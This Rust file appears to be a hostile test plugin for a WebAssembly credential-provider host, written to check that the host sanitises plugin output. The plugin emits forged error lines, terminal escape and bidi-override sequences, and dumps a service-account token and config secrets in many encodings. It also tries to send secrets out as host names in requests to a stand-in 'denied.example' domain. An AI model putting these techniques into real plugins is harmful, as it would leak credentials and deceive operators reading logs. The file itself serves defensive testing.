//! Attacks the host's text output. It
//!
//! * logs messages (one call each, numbered `msg-NN`) that carry a newline
//!   followed by a forged `wasm-credential-provider: error:` line, terminal
//!   escapes (ESC, BEL, BS, NUL, DEL, C1 CSI) and bidi overrides;
//! * logs the service-account token and config `secret` (a multi-line
//!   `configFromFile` secret with `"` and `\`) raw, JSON-escaped,
//!   Debug-escaped, percent-encoded and line by line;
//! * prints the same to stdout and stderr, which the host captures;
//! * requests denied URLs whose host names are the token and config
//!   `label` (a `configFromEnv` secret short enough for a host name; config `secret`
//!   is also declared as `config:secret`, an endpoint, so the host looks at
//!   that secret value as a URL);
//! * then fails with an error message carrying all of the above, or, with
//!   config `succeed: "true"`, answers with harmless credentials.
//!
//! The tests check that none of it reaches stderr or the audit log as is.
use wcp_guest_sdk::log::{self, Level};
use wcp_guest_sdk::{Credentials, Provider, ProviderError, Request, config, http, image};

const FORGED: &str = "wasm-credential-provider: error: forged by the plugin";
const CONTROLS: &str = "esc \u{1b}[2J\u{1b}[31m red \u{1b}]0;title\u{7} bel \u{7} bs x\u{8}y nul \0 del \u{7f} csi \u{9b}31m cr \r end";
const BIDI: &str = "rlo \u{202e}gnp.exe\u{202c} lri \u{2066}x\u{2069} rlm \u{200f} ls \u{2028} ps \u{2029} alm \u{61c}";

struct HostileText;

/// Every form the tests look for, with a name.
fn forms(what: &str, value: &str) -> Vec<(String, String)> {
    let mut out = vec![
        (format!("{what} raw"), value.to_string()),
        (
            format!("{what} json"),
            serde_json::to_string(value).unwrap_or_default(),
        ),
        (format!("{what} debug"), format!("{value:?}")),
        (
            format!("{what} escape_debug"),
            value.escape_debug().to_string(),
        ),
        (
            format!("{what} form"),
            http::form_urlencode(&[("v", value)]),
        ),
        (
            format!("{what} json-object"),
            serde_json::json!({ "value": value }).to_string(),
        ),
    ];
    for (i, line) in value.lines().enumerate() {
        out.push((format!("{what} line {i}"), line.to_string()));
        out.push((format!("{what} line {i} debug"), format!("{line:?}")));
    }
    out
}

impl Provider for HostileText {
    fn get_credentials(request: Request) -> Result<Credentials, ProviderError> {
        let token = request.service_account_token.clone().unwrap_or_default();
        let secret = config::get("secret").unwrap_or_default();
        let mut n = 0;
        let mut say = |text: &str| {
            n += 1;
            log::log(Level::Warn, &format!("msg-{n:02} {text}"));
        };
        say(&format!("forged next\n{FORGED}"));
        say(&format!("forged after cr\r{FORGED}"));
        say(CONTROLS);
        say(BIDI);
        for (name, form) in forms("token", &token)
            .into_iter()
            .chain(forms("secret", &secret))
        {
            say(&format!("{name}: {form}"));
        }
        println!("stdout forged next\n{FORGED}");
        println!("stdout {CONTROLS} {BIDI}");
        println!("stdout secret follows\n{secret}\nstdout token {token}");
        eprintln!(
            "stderr {secret:?} {}",
            serde_json::to_string(&secret).unwrap_or_default()
        );
        eprintln!("stderr {CONTROLS}\n{FORGED}");

        // A token is too long for a host name (the host refuses such an
        // authority before any request exists); config `label`, a shorter
        // secret, fits and reaches the host's denial.
        for secret in [token.to_string(), config::get("label").unwrap_or_default()] {
            let denied = format!("https://{secret}.denied.example/");
            if let Err(e) = http::Request::get(&denied).send() {
                say(&format!("denied as expected: {e}"));
            }
        }

        if config::get("succeed").as_deref() == Some("true") {
            return Ok(Credentials::registry(
                image::registry_of(&request.image),
                "user",
                "harmless-password",
            ));
        }
        Err(ProviderError::Upstream(format!(
            "final error {CONTROLS} {BIDI} token={token} json={} secret={secret:?} raw={secret}\n{FORGED}",
            serde_json::to_string(&secret).unwrap_or_default()
        )))
    }
}

wcp_guest_sdk::export_provider!(HostileText);
wcp_guest_sdk::declare_capabilities!("capabilities.json");
